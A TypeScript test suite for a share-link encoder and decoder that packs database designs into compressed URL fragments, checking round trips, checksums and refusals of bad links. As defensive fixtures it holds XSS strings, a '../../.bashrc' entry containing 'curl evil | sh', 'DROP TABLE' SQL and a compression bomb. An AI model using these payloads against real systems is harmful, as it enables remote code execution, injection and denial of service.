import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { strFromU8, unzlibSync, zlibSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Design } from '../core/design';
import { FORMAT_NAME, FORMAT_VERSION, loadDesign, serializeDesign } from '../core/format';
import { applyOperation } from '../core/operations';
import { exampleDesign } from '../core/test-fixtures';
import {
  SHARE_LIMITS,
  type ShareDecodeResult,
  type ShareErrorCode,
  adler32,
  decodeShare,
  encodeDesign,
  encodeJson,
  formatBytes,
  fromBase64Url,
  shareDataFromHash,
  shareFragment,
  toBase64Url,
  withoutModuleFiles,
} from './share-link';

function opened(result: ShareDecodeResult) {
  if (!result.ok) throw new Error(`expected a design, got ${result.error.code}: ${result.error.message}`);
  return result;
}

function failed(result: ShareDecodeResult, code: ShareErrorCode) {
  if (result.ok) throw new Error(`expected the error ${code}, got a design`);
  expect(result.error.code).toBe(code);
  return result.error;
}

const bytesData = (bytes: Uint8Array) => toBase64Url(bytes);

describe('base64url', () => {
  it('matches Node for any bytes, and reads back what it writes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => {
        const text = toBase64Url(bytes);
        expect(text).toBe(Buffer.from(bytes).toString('base64url'));
        const back = fromBase64Url(text);
        expect(back.ok && Array.from(back.bytes)).toEqual(Array.from(bytes));
      }),
    );
  });

  it('accepts padding and refuses characters outside the alphabet, saying which and where', () => {
    const padded = fromBase64Url('YWI=');
    expect(padded.ok && new TextDecoder().decode(padded.bytes)).toBe('ab');
    const plus = fromBase64Url('YW+i');
    expect(!plus.ok && plus.error.message).toContain('the character "+" at position 3');
    const space = fromBase64Url('YW i');
    expect(!space.ok && space.error.message).toContain('a space at position 3');
    const accent = fromBase64Url('YWé');
    expect(!accent.ok && accent.error.message).toContain('U+00E9');
  });
});

describe('adler32', () => {
  it('gives the published checksum and continues over chunks', () => {
    const bytes = new TextEncoder().encode('Wikipedia');
    expect(adler32(bytes)).toBe(0x11e60398);
    expect(adler32(bytes.subarray(4), adler32(bytes.subarray(0, 4)))).toBe(0x11e60398);
    // Long runs of 0xff: the sums must be reduced before they overflow.
    const big = new Uint8Array(100_000).fill(255);
    const expected = (() => {
      let a = 1;
      let b = 0;
      for (const x of big) {
        a = (a + x) % 65521;
        b = (b + a) % 65521;
      }
      return ((b << 16) | a) >>> 0;
    })();
    expect(adler32(big)).toBe(expected);
  });
});

describe('share links: round trip', () => {
  it('gives back the same design, from link characters only', () => {
    const design = exampleDesign();
    const { data, jsonBytes } = encodeDesign(design);
    expect(data).toMatch(/^[A-Za-z0-9_-]+$/);
    const result = opened(decodeShare(data));
    expect(result.design).toEqual(design);
    expect(result.formatVersion).toBe(FORMAT_VERSION);
    expect(result.warnings).toEqual([]);
    expect(result.jsonBytes).toBe(jsonBytes);
  });

  it('carries the example modules whole, much smaller than their files', () => {
    for (const file of ['molos-example.json', 'molos-tasks.json']) {
      const text = readFileSync(new URL(`../../../static/examples/${file}`, import.meta.url), 'utf8');
      const loaded = loadDesign(text);
      if (!loaded.ok) throw new Error(file);
      const { data } = encodeDesign(loaded.design);
      expect(data.length).toBeLessThan(text.length / 2);
      expect(opened(decodeShare(data)).design).toEqual(loaded.design);
    }
  });

  it('keeps hostile names as plain text', () => {
    const names = [
      '<img src=x onerror=alert(1)>',
      '"quoted" \'single\' `tick` ${x}',
      '</script><script>alert(1)</script>',
    ];
    let design = exampleDesign();
    design = applyOperation(design, { op: 'setModule', args: { name: names[1] } });
    design = applyOperation(design, { op: 'addTable', args: { id: 't_x', name: names[0], position: { x: 0, y: 0 } } });
    design = applyOperation(design, { op: 'updateTable', args: { tableId: 't_x', comment: names[2] } });
    const back = opened(decodeShare(encodeDesign(design).data)).design;
    expect(back).toEqual(design);
    expect(back.tables.t_x?.name).toBe(names[0]);
    expect(back.module.name).toBe(names[1]);
  });

  it('opens links written with format version 1, upgraded to the current version', () => {
    const file = JSON.parse(serializeDesign(exampleDesign()));
    file.formatVersion = 1;
    delete file.design.baseline;
    const result = opened(decodeShare(encodeJson(JSON.stringify(file)).data));
    expect(result.formatVersion).toBe(1);
    expect(result.design.baseline).toBeNull();
    // Older files targeted the older host too (format 3's upgrade keeps that) and had no notes or areas.
    const example = exampleDesign();
    expect(result.design).toEqual({ ...example, module: { ...example.module, host: 'older' }, notes: {}, areas: {} });
  });

  it('repairs a design with a dangling reference and reports it', () => {
    const file = JSON.parse(serializeDesign(exampleDesign()));
    file.design.tables.t_tasks.columnIds.push('c_missing');
    const result = opened(decodeShare(encodeJson(JSON.stringify(file)).data));
    expect(result.warnings.map((w) => w.path)).toEqual(['$.design.tables.t_tasks.columnIds[7]']);
  });
});

/** The example design as if it had been exported: its baseline holds the module's migration and code. */
function exportedDesign(): Design {
  return {
    ...exampleDesign(),
    baseline: {
      snapshotId: 'snap-1',
      tables: { t_tasks: 'MoLOS-Example_tasks' },
      columns: { c_tasks_title: 'title' },
      snapshot: { id: 'snap-1' },
      files: [
        { path: 'drizzle/0000_init.sql', text: 'DROP TABLE `MoLOS-Example_tasks`;' },
        { path: 'drizzle/meta/_journal.json', text: '{"entries":[]}' },
        { path: 'lib/server/db/schema/tables.ts', text: 'import "evil";' },
      ],
    },
  };
}

/** The JSON a link's data unpacks to. */
const linkJson = (data: string) => {
  const raw = fromBase64Url(data);
  if (!raw.ok) throw new Error(raw.error.message);
  return strFromU8(unzlibSync(raw.bytes));
};

describe('share links: never the module files', () => {
  it('leaves the module files out of a link and keeps the rest of the baseline', () => {
    const design = exportedDesign();
    const json = linkJson(encodeDesign(design).data);
    expect(json).not.toContain('"files"');
    expect(json).not.toContain('DROP TABLE');
    expect(json).not.toContain('evil');
    const back = opened(decodeShare(encodeDesign(design).data)).design;
    expect(back.baseline).toEqual({
      snapshotId: 'snap-1',
      tables: { t_tasks: 'MoLOS-Example_tasks' },
      columns: { c_tasks_title: 'title' },
      snapshot: { id: 'snap-1' },
    });
    expect(back).toEqual(withoutModuleFiles(design));
    // The design itself is untouched.
    expect(design.baseline?.files).toHaveLength(3);
  });

  it('drops module files from a link that carries them, without an error', () => {
    const made = JSON.stringify({ format: FORMAT_NAME, formatVersion: FORMAT_VERSION, design: exportedDesign() });
    expect(made).toContain('DROP TABLE');
    const result = opened(decodeShare(encodeJson(made).data));
    expect(result.warnings).toEqual([]);
    expect(result.design.baseline).toEqual({
      snapshotId: 'snap-1',
      tables: { t_tasks: 'MoLOS-Example_tasks' },
      columns: { c_tasks_title: 'title' },
      snapshot: { id: 'snap-1' },
    });
    expect(result.design).toEqual({ ...exampleDesign(), baseline: result.design.baseline });
  });

  it('opens a link whose module files are not even valid, without them', () => {
    const file = JSON.parse(serializeDesign(exportedDesign()));
    file.design.baseline.files = [{ path: '../../.bashrc', text: 'curl evil | sh' }, 42];
    const result = opened(decodeShare(encodeJson(JSON.stringify(file)).data));
    expect(result.design.baseline && 'files' in result.design.baseline).toBe(false);
    expect(result.design.baseline?.snapshotId).toBe('snap-1');
  });
});

describe('share links: bad links are error values', () => {
  const good = encodeDesign(exampleDesign()).data;

  it('an empty link', () => {
    expect(failed(decodeShare(''), 'empty').message).toContain('nothing after "#d="');
  });

  it('a link over the size limit is refused before it is read', () => {
    const error = failed(decodeShare('A'.repeat(SHARE_LIMITS.maxDataChars + 1)), 'too-large');
    expect(error.message).toContain('1,048,577 characters');
    expect(error.message).toContain('at most 1,048,576');
    failed(decodeShare(good, { ...SHARE_LIMITS, maxDataChars: good.length - 1 }), 'too-large');
    opened(decodeShare(good, { ...SHARE_LIMITS, maxDataChars: good.length }));
  });

  it('a link with a character a link never holds', () => {
    const error = failed(decodeShare(`${good.slice(0, 10)}%${good.slice(11)}`), 'bad-character');
    expect(error.message).toContain('"%" at position 11');
  });

  it('a truncated link, wherever it is cut', () => {
    for (const keep of [1, 5, 8, Math.floor(good.length / 2), good.length - 7, good.length - 1]) {
      const result = decodeShare(good.slice(0, keep));
      expect(result.ok).toBe(false);
      // Cut in a byte, too short, cut in the compressed stream, or cut in the checksum (then it does not match).
      if (!result.ok) expect(['truncated', 'checksum']).toContain(result.error.code);
      if (!result.ok && keep < good.length - 6) expect(result.error.code).toBe('truncated');
    }
    expect(failed(decodeShare(good.slice(0, good.length / 2)), 'truncated').message).toContain('cut off');
  });

  it('a changed byte is caught, by the inflater or by the checksum', () => {
    const bytes = fromBase64Url(good);
    if (!bytes.ok) throw new Error('bad encoding');
    for (let at = 2; at < bytes.bytes.length; at++) {
      const changed = bytes.bytes.slice();
      changed[at] = changed[at]! ^ 0x10;
      const result = decodeShare(bytesData(changed));
      expect(result.ok, `byte ${at}`).toBe(false);
      if (!result.ok) expect(['checksum', 'damaged', 'truncated', 'too-large-unpacked']).toContain(result.error.code);
    }
  });

  it('a changed character in uncompressed data is caught by the checksum', () => {
    // Stored (level 0) blocks inflate whatever their bytes are: only the checksum can tell.
    const json = JSON.stringify({ format: FORMAT_NAME, formatVersion: FORMAT_VERSION, design: exampleDesign() });
    const stored = zlibSync(new TextEncoder().encode(json), { level: 0 });
    const at = stored.indexOf('t'.charCodeAt(0), 40);
    stored[at] = 'x'.charCodeAt(0);
    expect(failed(decodeShare(bytesData(stored)), 'checksum').message).toContain('checksum does not match');
  });

  it('data that is not zlib', () => {
    failed(decodeShare(bytesData(new TextEncoder().encode('hello, this is not compressed'))), 'not-compressed');
  });

  it('a compression bomb stops at the cap', () => {
    const bomb = zlibSync(new Uint8Array(64 * 1024 * 1024).fill(32), { level: 9 });
    const data = bytesData(bomb);
    expect(data.length).toBeLessThan(SHARE_LIMITS.maxDataChars);
    const error = failed(decodeShare(data), 'too-large-unpacked');
    expect(error.message).toContain('more than 16 MB');
    const small = encodeDesign(exampleDesign());
    failed(decodeShare(small.data, { ...SHARE_LIMITS, maxJsonBytes: small.jsonBytes - 1 }), 'too-large-unpacked');
    opened(decodeShare(small.data, { ...SHARE_LIMITS, maxJsonBytes: small.jsonBytes }));
  });

  it('bytes that are not UTF-8', () => {
    failed(decodeShare(bytesData(zlibSync(new Uint8Array([0x7b, 0xff, 0xfe, 0x7d])))), 'not-text');
  });

  it('text that is not JSON', () => {
    expect(failed(decodeShare(encodeJson('<script>alert(1)</script>').data), 'not-json').message).toContain('not JSON');
  });

  it('JSON that is not a design, with the path of the problem', () => {
    const other = failed(
      decodeShare(encodeJson('{"format":"something-else","formatVersion":1}').data),
      'invalid-design',
    );
    expect(other.message).toContain('$.format');
    expect(other.problems?.length).toBeGreaterThan(0);
    const future = JSON.stringify({ format: FORMAT_NAME, formatVersion: 99, design: exampleDesign() });
    expect(failed(decodeShare(encodeJson(future).data), 'invalid-design').message).toContain(
      'version 99 is not supported',
    );
    const file = JSON.parse(serializeDesign(exampleDesign()));
    file.design.tables.t_tasks.name = 42;
    expect(failed(decodeShare(encodeJson(JSON.stringify(file)).data), 'invalid-design').message).toContain(
      '$.design.tables.t_tasks.name: expected string, got 42',
    );
  });

  it('JSON nested too deep to copy is still only a bad link', () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    const file = `{"format":"${FORMAT_NAME}","formatVersion":2,"design":${JSON.stringify(exampleDesign()).replace(
      '"baseline":null',
      `"baseline":{"snapshotId":"s","tables":{},"columns":{},"snapshot":${deep}}`,
    )}}`;
    const result = decodeShare(encodeJson(file).data);
    // Either the engine copes (a valid design) or it is a clear error value; it never throws.
    if (!result.ok) expect(result.error.message.length).toBeGreaterThan(0);
  });
});

describe('fragments', () => {
  it('finds the data after d=, alone or among other keys', () => {
    expect(shareFragment('abc')).toBe('d=abc');
    expect(shareDataFromHash('#d=abc')).toBe('abc');
    expect(shareDataFromHash('d=abc')).toBe('abc');
    expect(shareDataFromHash('#x=1&d=abc')).toBe('abc');
    expect(shareDataFromHash('#d=')).toBe('');
    expect(shareDataFromHash('#d')).toBe('');
    expect(shareDataFromHash('')).toBeNull();
    expect(shareDataFromHash('#')).toBeNull();
    expect(shareDataFromHash('#top')).toBeNull();
    expect(shareDataFromHash('#dd=abc')).toBeNull();
  });

  it('sizes in words', () => {
    expect(formatBytes(512)).toBe('512 bytes');
    expect(formatBytes(2048)).toBe('2 KB');
    expect(formatBytes(1536 * 1024)).toBe('1.5 MB');
  });
});
